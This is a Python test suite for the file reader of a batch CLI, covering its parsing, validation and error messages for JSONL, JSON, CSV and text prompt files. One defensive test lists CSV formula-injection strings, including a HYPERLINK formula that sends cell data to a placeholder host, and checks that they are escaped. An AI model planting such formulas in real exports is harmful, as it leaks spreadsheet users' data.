"""The input file of `aireiter batch`: formats, rows, and what is wrong with them."""

import csv
import gzip
import io
import json
import os
import string
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from aireiter_async.cli._errors import UsageError
from aireiter_async.cli._input import detect, open_input
from aireiter_async.cli._rows import Row, Rows, find_separator, mark_text
from aireiter_async.models import Model
from tests.command import PNG, Ran, shell

Run = Callable[..., Ran]

GOOD = '{"model": "suno", "params": {"prompt": "rain"}}'
IMAGE = "https://example.com/a.png"
VIDEO = "seedance_1_5_pro"


def rows(text: str | bytes, format: Any = "jsonl", **options: Any) -> Rows:  # noqa: A002
    """Return the rows of a file."""
    raw = text if isinstance(text, bytes) else text.encode()
    return Rows(name="f", file=io.BytesIO(raw), format=format, **options)


def params(*read: Row) -> list[Any]:
    """Return what the rows would send as params."""
    found: list[Any] = []
    for row in read:
        assert row.request is not None, row.error
        made = row.request.params
        found.append(made.to_params() if isinstance(made, Model) else made)
    return found


def test_a_line_is_the_body_of_a_submit() -> None:
    full = {
        "model": "suno",
        "params": {"prompt": "rain"},
        "out_task_id": "mine",
        "callback_url": "https://example.com/x",
        "metadata": {"order": 7},
    }
    text = f'\n{json.dumps(full)}\r\n \n{GOOD[:-1]}, "metadata": null}}'
    read = rows(text)
    first, second = read.read()
    assert (first.number, second.number, read.skipped) == (2, 4, {"blank line": 2})
    assert first.request is not None
    assert (first.request.out_task_id, first.request.metadata) == ("mine", {"order": 7})
    assert first.request.callback_url == "https://example.com/x"
    assert second.request is not None
    assert second.request.metadata is None
    assert [row.number for row in read.read()] == [2, 4]


def test_an_array_is_read_like_lines() -> None:
    text = f'\ufeff\n[\n{GOOD},\n\n{GOOD}, {GOOD},\n[1], {{"a": 1, "a": 2}}]\n'
    read = [*rows(text, "json", encoding="utf-8-sig").read()]
    assert [row.number for row in read] == [3, 5, 5, 6, 6]
    assert [row.error and row.error[:12] for row in read] == [None] * 3 + [
        "not an objec",
        "not JSON: th",
    ]


@pytest.mark.parametrize(
    ("text", "number", "error"),
    [
        (f"[{GOOD}\n{GOOD}]", 1, "a comma or ] is missing after this item"),
        (f"[{GOOD},\n{{]", 2, "not JSON: Expecting property name"),
        (f"[{GOOD},", 1, "not JSON: Expecting value"),
        (f"[{GOOD}", 1, "a comma or ] is missing"),
        (f"[{GOOD}]\n{GOOD}", 1, "there is text after the array"),
        ("[" * 100_000, 1, "not JSON: "),
    ],
)
def test_a_broken_array_says_where(text: str, number: int, error: str) -> None:
    *_, bad = rows(text, "json").read()
    assert (bad.number, bad.error is not None and error in bad.error) == (number, True), bad


def test_unknown_models_are_noted_once_each() -> None:
    notes: list[str] = []
    text = '{"model": "suna", "params": {"n": 2}}\n' * 3 + '{"model": "zzz", "params": {}}\n'
    assert [row.error for row in rows(text).read(notes.append)] == [None] * 4
    assert ["did you mean suno" in note for note in notes] == [True, False]
    notes.clear()
    assert [row.error for row in rows(text, unchecked=True).read(notes.append)] == [None] * 4
    assert notes == []


BAD: list[tuple[str | bytes, str]] = [
    (b'{"a": "\xff"}', "not UTF-8: byte 0xff at character 8; save the file as UTF-8"),
    ("{'model': 'suno'}", "not JSON: Expecting property name"),
    (f"{GOOD} {GOOD}", "not JSON: Extra data at character 49"),
    ('{"model": NaN}', "not JSON: NaN is not a JSON number"),
    ('{"model": "a", "model": "b"}', "not JSON: the key 'model' appears twice"),
    (
        '{"model": "new", "params": {"x": [{"y": 1, "y": 1}]}}',
        "not JSON: the key 'y' appears twice",
    ),
    ("[" * 100_000, "not JSON: "),
    ("9" * 5000, "not JSON: "),
    ("[1]", "not an object such as"),
    ('{"modle": "suno"}', "'modle' is not a key of a request; did you mean model?"),
    ('{"xyz": 1}', "'xyz' is not a key of a request; expected one of model, params, out_task_id"),
    ('{"prompt": "x"}', '\'prompt\' is a parameter: write {"params": {"prompt": ...}}'),
    ('{"params": {}}', "model is missing; set it in the row, or for all rows with --model"),
    ('{"model": 5, "params": {}}', "model must be a str, got int"),
    ('{"model": " ", "params": {}}', "model must be a model's name"),
    ('{"model": "suno"}', "params is missing"),
    ('{"model": "suno", "params": "rain"}', "params must be an object, got 'rain'"),
    (f'{GOOD[:-1]}, "metadata": [1]}}', "metadata must be an object, got [1]"),
    (f'{GOOD[:-1]}, "callback_url": "ftp://x"}}', "callback_url must be an http"),
    (f'{GOOD[:-1]}, "out_task_id": "a b"}}', "out_task_id must be 1 to 64"),
    (f'{GOOD[:-1]}, "out_task_id": 7}}', "out_task_id must be a str"),
    ('{"model": "suno", "params": {"promt": "x"}}', "promt is not a parameter of this model; did"),
    ('{"model": "new", "params": {"x": "\\ud800"}}', "params.x must be Unicode text"),
]


@pytest.mark.parametrize(("text", "error"), BAD, ids=[error[:40] for _, error in BAD])
def test_a_bad_line_says_what_is_wrong(text: str | bytes, error: str) -> None:
    raw = text if isinstance(text, bytes) else text.encode()
    first, bad, last = rows(b"%b\n%b\n%b" % (GOOD.encode(), raw, GOOD.encode())).read()
    assert (first.error, last.error, bad.number, bad.request) == (None, None, 2, None)
    assert bad.error is not None
    assert error in bad.error


def test_columns_are_parameters() -> None:
    text = (
        "prompt,video_length,generate_audio,aspect_ratio, out_task_id \n"
        '"a ""kitten"",\nin the sun",8,true,16:9,mine\n'
        "\n,,,,\n"
        "123,,False,9:16,\n"
    )
    first, second = rows(text, "csv", model=VIDEO).read()
    assert (first.number, second.number) == (2, 6)
    assert first.request is not None
    assert first.request.out_task_id == "mine"
    assert params(first, second) == [
        {
            "prompt": 'a "kitten",\nin the sun',
            "video_length": 8,
            "generate_audio": True,
            "aspect_ratio": "16:9",
        },
        {"prompt": "123", "generate_audio": False, "aspect_ratio": "9:16"},
    ]


def test_cells_are_text_unless_the_parameter_is_not() -> None:
    text = "out_task_id,prompt,seed\n007,None,5\n008,NA,\n"
    read = [*rows(text, "csv", model="z_image_turbo").read()]
    assert [row.request and row.request.out_task_id for row in read] == ["007", "008"]
    assert params(*read) == [{"prompt": "None", "seed": 5}, {"prompt": "NA"}]


@pytest.mark.parametrize("cell", [IMAGE, f'"[""{IMAGE}""]"'])
def test_an_array_is_json_or_one_value(cell: str) -> None:
    text = f"prompt,image_url\nx,{cell}\n"
    assert params(*rows(text, "csv", model="nano_banana").read())[0]["image_url"] == [IMAGE]


def test_rows_may_name_their_models() -> None:
    text = "model;prompt;duration\nsuno_lyrics;a;\nnew;b;5\n;c;\n"
    read = [*rows(text, "csv", model="suno").read()]
    assert [row.request and row.request.model for row in read] == ["suno_lyrics", "new", "suno"]
    assert params(*read) == [{"prompt": "a"}, {"prompt": "b", "duration": 5}, {"prompt": "c"}]
    bad, _, missing = rows(text.replace("a;", "a;5"), "csv").read()
    assert "duration is not a parameter" in str(bad.error)
    assert missing.error == "model is missing; set it in the row, or for all rows with --model"


def test_parameters_of_all_rows_come_from_the_command_line() -> None:
    defaults = {"aspect_ratio": ["16:9"], "video_length": ["8"]}
    text = "prompt,video_length\na,\nb,4\n"
    assert params(*rows(text, "csv", model=VIDEO, defaults=defaults).read()) == [
        {"prompt": "a", "aspect_ratio": "16:9", "video_length": 8},
        {"prompt": "b", "aspect_ratio": "16:9", "video_length": 4},
    ]
    text = '{"model": "suno"}\n{"model": "new", "params": {"prompt": "y"}}'
    assert params(*rows(text, defaults={"prompt": ["x"]}).read()) == [
        {"prompt": "x"},
        {"prompt": "y"},
    ]


def test_local_files_are_relative_to_what_names_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.png").write_bytes(PNG)
    (tmp_path / "b.png").write_bytes(PNG)
    monkeypatch.chdir(tmp_path)
    text = "prompt,image_url\n@a,@a.png\nb,\nc,@b.png\n"
    read = Rows(
        name="in/f.csv",
        file=io.BytesIO(text.encode()),
        format="csv",
        model="nano_banana",
        defaults={"image_url": ["@b.png"]},
    )
    first, second, bad = read.read()
    found = params(first, second)
    assert [each["prompt"] for each in found] == ["@a", "b"]
    assert found[0]["image_url"] == found[1]["image_url"]
    assert found[0]["image_url"][0].startswith("data:image/png;base64,")
    assert (bad.number, str(bad.error).startswith("image_url[0]: ")) == (4, True)
    assert "b.png" in str(bad.error)


def test_unknown_columns_are_kept_when_asked_for() -> None:
    text = "id,prompt,notes,empty\n1,rain,=ok,\n"
    (row,) = rows(text, "csv", model="suno", keep_columns=True).read()
    assert params(row) == [{"prompt": "rain"}]
    assert row.columns == {"id": "1", "notes": "=ok", "empty": ""}
    assert dict(row) == {"line": 2, **row.columns}
    assert len(row) == 4
    (row,) = rows(f'{GOOD[:-1]}, "id": 7}}', keep_columns=True).read()
    assert (params(row), row.columns) == ([{"prompt": "rain"}], {"id": 7})
    (row,) = rows(text, "csv", model="suno", unchecked=True).read()
    assert params(row) == [{"id": 1, "prompt": "rain", "notes": "=ok"}]
    with pytest.raises(UsageError, match="--keep-columns and --unchecked exclude each other"):
        rows(text, "csv", keep_columns=True, unchecked=True)


BAD_ROWS: list[tuple[bytes, int, str]] = [
    (b"\nprompt,promt\nx,y\n", 2, "the column 'promt' is not a parameter of suno; did you mean"),
    (b"prompt,notes\nx,y\n", 1, "--keep-columns carries it to --results"),
    (
        b"a cat,16:9\na dog,1:1\n",
        1,
        "the first line must name the columns, for",
    ),
    (b"id;prompt\nx;y\n", 1, "the column 'id' is not a parameter of suno"),
    (b"prompt,\nx,y\n", 1, "a column has no name"),
    (b"prompt,prompt\nx,y\n", 1, "the column 'prompt' appears twice"),
    (b"prompt,title\nx,y,z\n", 2, "3 cells, but the header has 2; quote cells that contain"),
    (b"prompt\n\xff\n", 2, "column 'prompt': not UTF-8: byte 0xff at character 1"),
    (b"prompt\xff\nx\n", 1, "not UTF-8: byte 0xff at character 7"),
    (b'prompt\n"a"b\n', 2, "not CSV: 'end of line' expected after '\"'"),
    (b'prompt\n"a"b\n', 2, "or use one prompt per line (--format txt)"),
    (b'prompt\nx\n"a\n\n', 3, "not CSV: unexpected end of data"),
    (b"prompt,instrumental\nx,maybe\n", 2, "instrumental"),
    (b"prompt,out_task_id\nx,a b\n", 2, "out_task_id must be 1 to 64"),
]


@pytest.mark.parametrize(("text", "number", "error"), BAD_ROWS, ids=[e[:40] for *_, e in BAD_ROWS])
def test_a_bad_row_says_what_is_wrong(text: bytes, number: int, error: str) -> None:
    *_, bad = rows(text, "csv", model="suno").read()
    assert bad.error is not None
    assert (bad.number, error in bad.error) == (number, True), bad.error


def test_rows_need_a_model() -> None:
    (bad,) = rows("prompt\nx\n", "csv").read()
    assert bad.error == "there is no column model: set the model of all rows with --model"
    with pytest.raises(UsageError, match="--model must name the model of the prompts in f"):
        rows("x\n", "txt")


KNOWN = {"prompt", "seed", "model", "image_url"}


@pytest.mark.parametrize(
    ("header", "separator"),
    [
        ("prompt", "\x1f"),
        ("prompt\r\n", "\x1f"),
        ("image_url", "\x1f"),
        ('"prompt, in words"', "\x1f"),
        ("prompt,seed\n", ","),
        ("prompt;seed", ";"),
        ("prompt\tseed\n", "\t"),
        ("prompt|seed", "|"),
        ("prompt^seed", "^"),
        ("a:b;prompt;seed", ";"),
        ("notes (a; b; c),prompt,seed", ","),
        ('"prompt","seed"', ","),
        ("größe;prompt", ";"),
        ("", "\x1f"),
    ],
)
def test_the_separator_comes_from_the_header(header: str, separator: str) -> None:
    assert find_separator(header, KNOWN) == separator


@given(st.lists(st.text(string.ascii_letters + "_ -.", min_size=1), min_size=2), st.data())
def test_a_letter_is_never_the_separator(names: list[str], data: st.DataObject) -> None:
    mark = data.draw(st.sampled_from(",;\t|^:/"))
    assert find_separator(mark.join(names), KNOWN) == mark


@pytest.mark.parametrize("text", ["a cat, sitting\nb, c\n", "a cat sitting\nb c\n"])
def test_a_table_of_one_column_needs_no_quotes(text: str) -> None:
    read = rows(f'prompt\n{text}"quoted, too"\n', "csv", model="suno").read()
    first, second = text.splitlines()
    assert [each["prompt"] for each in params(*read)] == [first, second, "quoted, too"]


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x.invalid?"&A1)', "@SUM(1)", "-1girl, forest", "+1", "\tx", "'=x"]
)
def test_a_formula_is_marked_as_text_and_read_back(text: str) -> None:
    assert mark_text(text).startswith("'")
    check_round_trip(text)


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1))
@example("'plain")
@example("''=x")
def test_any_text_is_read_back_exactly(text: str) -> None:
    check_round_trip(text)


def check_round_trip(text: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerows([["prompt", "title"], [mark_text(text), "t"]])
    read = rows(file.getvalue(), "csv", model="suno", unchecked=True).read()
    assert params(*read) == [{"prompt": text, "title": "t"}]


def test_prompts_one_per_line() -> None:
    text = "\ufeffa cat\r\n\r\n  \n# winter set\n\\# 1 dog\n\n\\n is kept\n  last  "
    read = rows(text, "txt", model="suno", encoding="utf-8-sig")
    found = [*read.read()]
    assert params(*found) == [
        {"prompt": "a cat"},
        {"prompt": "# 1 dog"},
        {"prompt": "\\n is kept"},
        {"prompt": "last"},
    ]
    assert [row.number for row in found] == [1, 5, 7, 8]
    assert read.skipped == {"blank line": 3, "comment": 1}
    (bad,) = rows(b"\xff\n", "txt", model="suno").read()
    assert "not UTF-8" in str(bad.error)


FILES: list[tuple[str, bytes, tuple[str, ...], list[str]]] = [
    ("f.jsonl", GOOD.encode(), (), ["rain"]),
    ("f.jsonl.gz", gzip.compress(GOOD.encode(), mtime=0), (), ["rain"]),
    ("f.JSONL", GOOD.encode("utf-16"), (), ["rain"]),
    ("f.json", f"[{GOOD},{GOOD}]".encode(), (), ["rain", "rain"]),
    ("f.json", f"{GOOD}\n{GOOD}".encode(), (), ["rain", "rain"]),
    ("f.jsonl", f" [{GOOD}]".encode(), (), ["rain"]),
    ("requests", GOOD.encode(), (), ["rain"]),
    ("f.csv", b"prompt;title\na;b\n", ("-m", "suno"), ["a"]),
    ("f.csv", "prompt\ttitle\r\na, b\tc\r\n".encode("utf-16"), ("-m", "suno"), ["a, b"]),
    ("f.tsv", b"prompt\ttitle\na;b,c\td\n", ("-m", "suno"), ["a;b,c"]),
    ("f.tab.gz", gzip.compress(b"prompt\nx\n", mtime=0), ("-m", "suno"), ["x"]),
    ("f.txt", b"{a} prompt\n", ("-m", "suno", "--format", "txt"), ["{a} prompt"]),
    ("prompts", b"a\nb", ("-m", "suno", "--format", "txt"), ["a", "b"]),
    ("f.data", b"prompt\na\n", ("-m", "suno", "--format", "csv"), ["a"]),
]


@pytest.mark.parametrize(("name", "content", "options", "prompts"), FILES)
def test_files_of_every_kind_are_read(
    tmp_path: Path, name: str, content: bytes, options: tuple[str, ...], prompts: list[str]
) -> None:
    given = dict(zip(options[::2], options[1::2], strict=True))
    path = tmp_path / name
    path.write_bytes(content)
    with open_input(str(path)) as (file, regular):
        kind, encoding = detect(name, file, given.get("--format"))  # type: ignore[arg-type]
        read = Rows(name=name, file=file, format=kind, encoding=encoding, model=given.get("-m"))
        for _ in range(2):
            assert [each.get("prompt") for each in params(*read.read())] == prompts
    assert regular


BAD_FILES: list[tuple[str, bytes | None, str]] = [
    ("missing", None, "missing cannot be read: "),
    (".", None, "cannot be read"),
    ("f.jsonl", b"\n\n", "has no requests"),
    ("f.csv", b"", "has no requests"),
    ("f.txt", b"# nothing\n", "has no requests"),
    ("f.jsonl", b"prompt,seed\nx,1\n", "is not JSON Lines: it starts with 'prompt,seed'; for a ta"),
    ("f.json", b'{"a"', "is not a JSON array; for one object per line add --format jsonl"),
    ("prompts", b"a cat\n", "is unclear; add --format jsonl, json, csv, tsv or txt"),
    ("f.csv", b'{"model": "suno"}\n', "looks like JSON Lines; rename it, or add --format jsonl"),
    ("f.xlsx", b"PK\x03\x04...", "is a spreadsheet or ZIP file: save it as CSV"),
    ("f.csv", b"BZh9", "is compressed with bzip2"),
    ("f.csv", b"a\0b\n", "is not text: it contains NUL bytes"),
    ("f.jsonl.gz", gzip.compress(GOOD.encode() * 9000, mtime=0)[:-9], "cannot be read to its end"),
    ("f.jsonl", b"\x1f\x8b\x08 no gzip", "cannot be read: "),
    ("f.csv", b"\xff\xfep\0r\0\x00\xd8", "cannot be read to its end: "),
]


@pytest.mark.parametrize(
    ("name", "content", "error"), BAD_FILES, ids=[f"{n}: {e[:30]}" for n, _, e in BAD_FILES]
)
def test_a_file_that_cannot_be_read_is_bad_input(
    aireiter: Run, tmp_path: Path, name: str, content: bytes | None, error: str
) -> None:
    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    ran = aireiter(
        "batch", str(path), "--dry-run", "-m", "suno", *(["--format", "json"] * (name == "f.json"))
    )
    assert (ran.status, ran.out, ran.err.count("\n")) == (2, "", 1), ran.err
    assert error in ran.err


def test_a_dry_run_counts_what_it_skips(
    aireiter: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("AIREITER_API_KEY", raising=False)
    monkeypatch.chdir(tmp_path)
    Path("p.txt").write_text("a\n\nb\n\n\n# c\nd")
    ran = aireiter("batch", "p.txt", "-m", "suno", "--dry-run")
    assert (ran.status, ran.err) == (0, "")
    lines = [" ".join(line.split()) for line in ran.out.splitlines()]
    assert lines == [
        "prompts 3 0 known, 3 new; nothing was sent",
        "3 suno",
        "skipped 3 blank lines, 1 comment",
    ]
    Path("f.jsonl").write_text(f'{GOOD}\n{{"model": "zzz", "params": {{}}}}\n')
    ran = aireiter("batch", "f.jsonl", "--dry-run", "--json")
    assert ran.document == {
        "file": "f.jsonl",
        "format": "jsonl",
        "rows": 2,
        "requests": 2,
        "known": 0,
        "new": 2,
        "unusable": 0,
        "models": {"suno": 1, "zzz": 1},
        "skipped": {},
    }


def test_all_bad_lines_are_named_before_anything_is_sent(aireiter: Run, tmp_path: Path) -> None:
    path = tmp_path / "f.jsonl"
    path.write_text(f"{GOOD}\n" + "[]\n" * 25)
    ran = aireiter("batch", str(path), "--dry-run", "--json")
    *told, more, last = ran.err.splitlines()
    assert ran.status == 2
    assert [line.split(": ")[0] for line in told] == [f"{path}, line {n}" for n in range(2, 22)]
    assert (more, last) == (
        "and 5 more",
        f"aireiter: {path} has 25 invalid rows; nothing was sent",
    )
    lines = ran.document["error"]["lines"]
    assert (len(lines), lines[0]["line"], lines[0]["message"][:13]) == (20, 2, "not an object")


def test_an_id_may_be_there_once(aireiter: Run, tmp_path: Path) -> None:
    path = tmp_path / "f.jsonl"
    named = f'{GOOD[:-1]}, "out_task_id": "mine"}}'
    path.write_text(f"{named}\n{GOOD}\n{named}\n")
    ran = aireiter("batch", str(path), "--dry-run")
    assert (ran.status, ran.err.splitlines()) == (
        2,
        [
            f"{path}, line 3: out_task_id mine is used in line 1",
            f"aireiter: {path} has 1 invalid row; nothing was sent",
        ],
    )


@pytest.mark.parametrize(
    ("content", "options"),
    [
        (GOOD.encode(), ()),
        (f"[{GOOD}]".encode(), ()),
        (gzip.compress(GOOD.encode(), mtime=0), ()),
        (b"prompt\nrain\n", ("-m", "suno", "--format", "csv")),
        (b"rain\n", ("-m", "suno", "--format", "txt")),
    ],
)
def test_standard_input_is_read_in_every_format(
    aireiter: Run, monkeypatch: pytest.MonkeyPatch, content: bytes, options: tuple[str, ...]
) -> None:
    stream = io.TextIOWrapper(io.BytesIO(content))
    monkeypatch.setattr(sys, "stdin", stream)
    ran = aireiter("batch", "-", "--dry-run", "--json", *options)
    assert (ran.status, ran.document["models"], stream.closed) == (0, {"suno": 1}, False)


def test_a_pipe_is_read_twice() -> None:
    reader, writer = os.pipe()
    os.write(writer, GOOD.encode())
    os.close(writer)
    with open_input(f"/dev/fd/{reader}") as (file, regular):
        assert (regular, file.read()) == (False, GOOD.encode())
        read = Rows(name="f", file=file, format="jsonl")
        assert params(*read.read()) == params(*read.read())
    os.close(reader)


def test_a_closed_standard_input_is_bad_usage() -> None:
    process = shell('"$@" <&-', "batch", "-", "--dry-run")
    assert (process.returncode, process.stderr) == (2, b"aireiter: standard input is closed\n")


def test_rows_that_are_left_early_leave_the_file_open() -> None:
    read = rows(f"{GOOD}\n{GOOD}\n")
    for row in read.read():
        assert row.error is None
        break
    assert len([*read.read()]) == 2
    left = read.read()
    next(left)
    read.file.close()
    del left
